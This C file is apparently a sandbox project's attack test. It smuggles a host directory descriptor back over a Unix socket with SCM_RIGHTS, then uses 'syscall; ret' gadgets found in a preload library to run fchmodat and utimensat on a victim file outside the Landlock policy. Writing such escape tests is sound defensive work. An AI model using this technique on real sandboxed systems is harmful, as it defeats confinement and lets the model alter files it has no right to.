/* A session's own Unix socket sent out through a host socket that crossed
 * (tests/tests/pola_sessions.rs,
 * `a_host_process_cannot_send_fds_back_through_a_socket_the_session_sent_out`).
 * SO_PASSRIGHTS is off on the crossing socket only: the program sends one
 * end of a socketpair of its own out through it (fds going out are not
 * refused), and a host process sends a directory of the host's back
 * through that end. With it, calls made around the handler (ld-preld's own
 * `syscall; ret`) that Landlock has no right for change the files around
 * the directory: chmod and utimensat of DIR/victim.
 *
 * argv: SOCKET_FD. Prints `sent R`, `received FD`, `gadget: N candidates`,
 * `fchmodat R`, `utimensat R` (R: the result, -errno on failure). */
#include "../attack/attack.h"
#include "../attack/gadget_scan.h"
#include <sys/socket.h>

static int send_fd(int s, int fd) {
    char c[CMSG_SPACE(sizeof(int))];
    memset(c, 0, sizeof c);
    struct iovec io = { "x", 1 };
    struct msghdr m = { 0 };
    m.msg_iov = &io;
    m.msg_iovlen = 1;
    m.msg_control = c;
    m.msg_controllen = sizeof c;
    struct cmsghdr *h = CMSG_FIRSTHDR(&m);
    h->cmsg_level = SOL_SOCKET;
    h->cmsg_type = SCM_RIGHTS;
    h->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(h), &fd, sizeof fd);
    return sendmsg(s, &m, 0) < 0 ? -errno : 0;
}

static int recv_fd(int s) {
    char b[1], c[CMSG_SPACE(sizeof(int))];
    struct iovec io = { b, 1 };
    struct msghdr m = { 0 };
    m.msg_iov = &io;
    m.msg_iovlen = 1;
    m.msg_control = c;
    m.msg_controllen = sizeof c;
    if (recvmsg(s, &m, 0) < 0) return -errno;
    struct cmsghdr *h = CMSG_FIRSTHDR(&m);
    if (!h || h->cmsg_level != SOL_SOCKET || h->cmsg_type != SCM_RIGHTS) return -ENOENT;
    int fd;
    memcpy(&fd, CMSG_DATA(h), sizeof fd);
    return fd;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    int s = atoi(argv[1]);
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv)) return 3;
    printf("sent %d\n", send_fd(s, sv[0]));
    fflush(stdout);
    close(sv[0]);
    int d = recv_fd(sv[1]);
    printf("received %d\n", d);
    fflush(stdout);
    if (d < 0) return 0;
    find_gadgets();
    unsigned long g = ncand ? cands[0] : 0;
    long r = g ? call_gadget(g, SYS_fchmodat, d, (long)"victim", 0666, 0) : -ENOSYS;
    printf("fchmodat %ld\n", r);
    struct timespec ts[2] = { { 0, 0 }, { 0, 0 } };
    r = g ? call_gadget(g, SYS_utimensat, d, (long)"victim", (long)ts, 0) : -ENOSYS;
    printf("utimensat %ld\n", r);
    fflush(stdout);
    return 0;
}
